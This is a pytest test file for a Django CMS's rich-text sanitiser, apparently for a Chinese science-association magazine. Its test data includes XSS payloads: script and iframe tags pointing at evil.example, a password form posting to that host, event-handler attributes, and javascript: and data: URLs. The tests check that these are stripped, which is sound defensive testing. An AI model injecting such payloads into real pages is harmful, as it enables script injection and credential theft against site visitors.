"""Rich text is cleaned whenever it is saved, whoever or whatever posted it."""

import html5lib
import pytest

from tests import factories as make
from tests.rich_text import MAGAZINE

pytestmark = pytest.mark.django_db


def saved_body(html):
    article = make.article(None, body=html)
    article.refresh_from_db()
    return article.body


def fragment(html):
    return html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)


def elements(html, tag):
    return list(fragment(html).iter(tag))


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert('xss')</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<style>body { display: none }</style>",
        '<iframe src="https://evil.example/"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<form action="https://evil.example/"><input name="password"></form>',
    ],
)
def test_dangerous_elements_are_removed_from_the_body(payload):
    body = saved_body(f"<p>省科协召开全委会议</p>{payload}")

    assert body == "<p>省科协召开全委会议</p>"


@pytest.mark.parametrize(
    "payload",
    [
        '<img src="https://example.org/a.png" onerror="alert(1)">',
        '<p onclick="alert(1)">正文</p>',
        '<a href="https://example.org/" onmouseover="alert(1)">链接</a>',
        '<p style="background:url(javascript:alert(1))">正文</p>',
    ],
)
def test_event_handlers_and_unsafe_css_are_removed(payload):
    body = saved_body(payload)

    assert "alert" not in body
    attributes = [(a, v) for e in fragment(body).iter() for a, v in e.attrib.items()]
    assert [a for a, v in attributes if a.startswith("on") or (a == "style" and v.strip())] == []


def test_control_characters_are_removed_from_the_body_and_a_vertical_tab_breaks_the_line():
    body = saved_body("<p>省科协\x01召开\x0b全委会议\x00</p>")

    assert body == "<p>省科协召开\n全委会议</p>"


@pytest.mark.parametrize(
    "href", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>"]
)
def test_links_to_scripts_lose_their_target_but_keep_their_text(href):
    body = saved_body(f'<p><a href="{href}">点击查看</a></p>')

    (link,) = elements(body, "a")
    assert link.get("href") is None
    assert link.text == "点击查看"


def test_external_links_open_without_giving_the_other_site_a_handle_on_ours():
    body = saved_body('<p><a href="https://www.cast.org.cn/">中国科协</a></p>')

    (link,) = elements(body, "a")
    assert link.get("href") == "https://www.cast.org.cn/"
    assert set(link.get("rel").split()) == {"noopener", "noreferrer"}


def test_markup_an_editor_uses_is_kept():
    html = (
        "<h2>一、提高政治站位</h2>"
        '<p>要<strong>深入学习</strong>贯彻，见<a href="https://www.hast.org.cn/">省科协网站</a>。</p>'
        '<figure class="image"><img src="https://example.org/museum.jpg" alt="黄河地质博物馆">'
        "<figcaption>黄河地质博物馆</figcaption></figure>"
        "<table><tbody><tr><th>市</th><td>郑州</td></tr></tbody></table>"
        "<ul><li>科普大篷车进校园</li></ul>"
    )

    body = saved_body(html)

    assert elements(body, "h2")[0].text == "一、提高政治站位"
    assert elements(body, "strong")[0].text == "深入学习"
    assert elements(body, "a")[0].get("href") == "https://www.hast.org.cn/"
    assert elements(body, "figure")[0].get("class") == "image"
    assert elements(body, "img")[0].get("src") == "https://example.org/museum.jpg"
    assert elements(body, "img")[0].get("alt") == "黄河地质博物馆"
    assert elements(body, "figcaption")[0].text == "黄河地质博物馆"
    assert [td.text for td in elements(body, "td")] == ["郑州"]
    assert elements(body, "li")[0].text == "科普大篷车进校园"


@pytest.mark.parametrize("snippet", MAGAZINE, ids=str)
def test_what_an_editor_writes_in_the_editor_is_stored_as_written(snippet):
    assert saved_body(snippet.html) == snippet.expected


def test_the_corpus_covers_what_a_magazine_uses():
    tags = {element.tag for snippet in MAGAZINE for element in fragment(snippet.html).iter()}

    assert len(MAGAZINE) >= 25
    assert {"h2", "h3", "ul", "ol", "blockquote", "a", "table", "th", "figure", "figcaption", "img"} <= tags
    assert {"code", "pre", "hr", "sub", "sup", "strong", "i", "u", "s", "br"} <= tags


@pytest.mark.parametrize(
    ("html", "classes"),
    [
        ('<pre><code class="language-python toc__title">x = 1</code></pre>', {"code": "language-python"}),
        ('<pre class="site-header"><code class="language-evil">x</code></pre>', {"pre": "", "code": ""}),
        ('<p><code class="visually-hidden" style="position:fixed">秘密</code></p>', {"p": "", "code": ""}),
    ],
)
def test_code_keeps_no_class_but_the_languages_the_editor_offers(html, classes):
    body = saved_body(html)

    assert {e.tag: e.get("class") or "" for e in fragment(body).iter() if e.tag in classes} == classes
    assert "style" not in body


@pytest.mark.parametrize(
    "href", ["tel:javascript:alert(1)", "tel:+86-371;javascript:alert(1)", "tel:%0Ajavascript:alert(1)"]
)
def test_a_telephone_link_with_script_after_it_only_ever_dials(href):
    (link,) = elements(saved_body(f'<p><a href="{href}">电话</a></p>'), "a")

    assert link.get("href") == href


def test_a_link_that_runs_script_before_a_telephone_number_loses_its_target():
    (link,) = elements(saved_body('<p><a href="javascript:tel:+8637165951234">电话</a></p>'), "a")

    assert link.get("href") is None


def test_body_is_cleaned_again_when_an_article_is_edited():
    article = make.article(None, body="<p>正文</p>")

    article.body = "<p>正文</p><script>alert(1)</script>"
    article.save()

    article.refresh_from_db()
    assert article.body == "<p>正文</p>"


def test_person_bio_is_cleaned_on_save():
    person = make.person(bio='<p onclick="alert(1)">研究员</p><script>alert(2)</script>')

    person.refresh_from_db()
    assert person.bio == "<p>研究员</p>"


def test_event_description_is_cleaned_on_save():
    event = make.event(description='<p>复赛</p><iframe src="https://evil.example/"></iframe>')

    event.refresh_from_db()
    assert event.description == "<p>复赛</p>"


def test_rich_text_counts_as_empty_by_its_words_not_by_what_looks_like_a_tag():
    assert saved_body("<p>&lt;待定&gt;</p>") == "<p>&lt;待定&gt;</p>"
    assert saved_body("<p>&lt;</p>") == "<p>&lt;</p>"
    assert saved_body("<p>&nbsp;</p><p><br></p>") == ""
